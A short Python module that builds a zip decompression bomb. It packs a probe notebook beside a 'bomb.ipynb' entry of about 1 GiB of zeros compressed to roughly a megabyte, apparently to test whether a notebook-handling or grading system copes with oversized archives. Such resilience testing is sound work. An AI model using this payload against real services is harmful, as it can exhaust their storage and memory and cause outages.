"""Comes in an archive of a megabyte that unpacks to one gigabyte."""

import zipfile

SCORES = None


def archive(path, notebook):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        file.writestr("probe.ipynb", notebook)
        with file.open("bomb.ipynb", "w", force_zip64=True) as bomb:
            for _ in range(128):
                bomb.write(bytes(8 << 20))
